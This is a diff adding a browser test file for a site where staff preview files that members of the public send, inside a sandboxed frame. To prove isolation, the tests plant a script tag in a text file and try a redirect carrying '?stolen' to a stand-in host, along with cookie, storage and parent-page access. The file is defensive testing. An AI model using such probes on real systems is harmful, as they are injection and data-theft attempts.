@@ -1,0 +1,121 @@
+import path from 'node:path'
+import { PDFDocument } from '@cantoo/pdf-lib'
+import { strToU8, zipSync } from 'fflate'
+import type { Page } from 'playwright-core'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { aBrowserSite, type BrowserSite } from '#tests/support/browser.ts'
+import { sendCase } from '#tests/support/cases.ts'
+import { aVisitor } from '#tests/support/site.ts'
+import { staffWindow } from '#tests/support/staff.ts'
+import { PASSPHRASE } from '#tests/support/staff-browser.ts'
+
+// Looking at files that strangers sent, in a frame that can reach nothing.
+
+let site: BrowserSite
+let sol: Page
+
+beforeAll(async () => {
+  site = await aBrowserSite()
+  const { window } = await staffWindow(site, { name: 'Sol Example' })
+  sol = await window.newPage()
+  await sol.goto(`${site.origin}/staff/keys`)
+  await sol.getByLabel(/^Passphrase/).fill(PASSPHRASE)
+  await sol.getByLabel(/^The passphrase again/).fill(PASSPHRASE)
+  await sol.getByRole('button', { name: 'Make my key' }).click()
+  await sol.getByLabel(/^Recovery file/).setInputFiles(path.join(site.dataDir, 'recovery-key.txt'))
+  await sol.getByRole('button', { name: 'Put Sol Example on the list' }).click()
+  await sol.getByText('Sol Example is on the list').waitFor()
+})
+afterAll(() => site?.close())
+
+async function opened(file: File, more: Record<string, string> = {}) {
+  const person = aVisitor(site.origin, (request) => fetch(request))
+  const { number } = await sendCase(person, { file, ...more })
+  await sol.getByRole('navigation', { name: 'Staff' }).getByRole('link', { name: 'Cases' }).click()
+  await sol.getByRole('link', { name: number }).click()
+  await sol.getByText('Every record was opened and checked').waitFor()
+  await sol.getByRole('button', { name: `Show ${file.name} here` }).click()
+  return sol.getByRole('region', { name: `Preview of ${file.name}` })
+}
+
+const frameOf = async (page: Page) => {
+  const handle = await page.locator('iframe').elementHandle()
+  return (await handle?.contentFrame()) ?? expect.fail('no frame')
+}
+
+test('a text is shown as text, and the frame it stands in reaches nothing', async () => {
+  const region = await opened(new File(['<script>parent.x = 1</script> The lift was locked.'], 'letter.txt'))
+  await region.getByText('The text', { exact: true }).waitFor()
+  await sol.frameLocator('iframe').getByText('<script>parent.x = 1</script> The lift was locked.').waitFor()
+  const frame = await frameOf(sol)
+  const tried = await frame.evaluate(async () => {
+    const outcome = async (act: () => unknown) => {
+      try {
+        await act()
+        return 'done'
+      } catch {
+        return 'refused'
+      }
+    }
+    return {
+      origin: self.origin,
+      network: await outcome(() => fetch('/up')),
+      cookies: await outcome(() => document.cookie),
+      storage: await outcome(() => localStorage.length),
+      around: await outcome(() => parent.document.title),
+    }
+  })
+  expect(tried).toEqual({
+    origin: 'null',
+    network: 'refused',
+    cookies: 'refused',
+    storage: 'refused',
+    around: 'refused',
+  })
+  const asked: string[] = []
+  sol.on('request', (request) => asked.push(request.url()))
+  await frame.evaluate(() => {
+    location.href = 'http://other.invalid/?stolen'
+  })
+  await sol.waitForTimeout(500)
+  expect(asked.filter((url) => url.includes('other.invalid'))).toEqual([])
+  await region.getByRole('button', { name: 'Close the preview of letter.txt' }).click()
+  expect(await sol.locator('iframe').count()).toBe(0)
+})
+
+test('a picture, a Word file and a PDF are shown', async () => {
+  const jpeg = await sol.screenshot({ type: 'jpeg', clip: { x: 0, y: 0, width: 40, height: 30 } })
+  const picture = await opened(new File([new Uint8Array(jpeg)], 'photo.jpg'))
+  await picture.getByText('A picture of 40 by 30 points').waitFor()
+
+  const body =
+    '<w:p><w:r><w:t>They said</w:t><w:br/><w:t>no.</w:t></w:r></w:p><w:p><w:r><w:t>Twice.</w:t></w:r></w:p>'
+  const word = zipSync({
+    '[Content_Types].xml': strToU8('<Types/>'),
+    'word/document.xml': strToU8(`<w:document xmlns:w="urn:w"><w:body>${body}</w:body></w:document>`),
+  })
+  await opened(new File([new Uint8Array(word)], 'notes.docx'))
+  await sol.frameLocator('iframe').getByText('Twice.').waitFor()
+  expect(await sol.frameLocator('iframe').locator('p').first().innerText()).toBe('They said\nno.')
+
+  const made = await PDFDocument.create()
+  for (const words of ['The first page.', 'The second page.']) made.addPage([300, 200]).drawText(words)
+  const pdf = await opened(new File([new Uint8Array(await made.save())], 'plan.pdf'))
+  await pdf.getByText('2 pages').waitFor()
+  await sol.frameLocator('iframe').getByRole('img', { name: 'Page 2 of 2. The second page.' }).waitFor()
+  // Something was really drawn: a blank page would be white everywhere.
+  const frame = await frameOf(sol)
+  const dark = await frame.evaluate(() => {
+    const canvas = document.querySelector('canvas')!
+    const { data } = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height)
+    return data.filter((value, at) => at % 4 === 0 && value < 100).length
+  })
+  expect(dark).toBeGreaterThan(50)
+})
+
+test('a broken file says so in place of its picture', async () => {
+  // Kept as it was by choice: what cannot be cleaned would not have come this far.
+  const broken = new File(['%PDF-1.4\nnothing behind it\n%%EOF'], 'broken.pdf')
+  const region = await opened(broken, { original: 'yes' })
+  await region.getByText('This file cannot be shown. Download it').waitFor()
+})
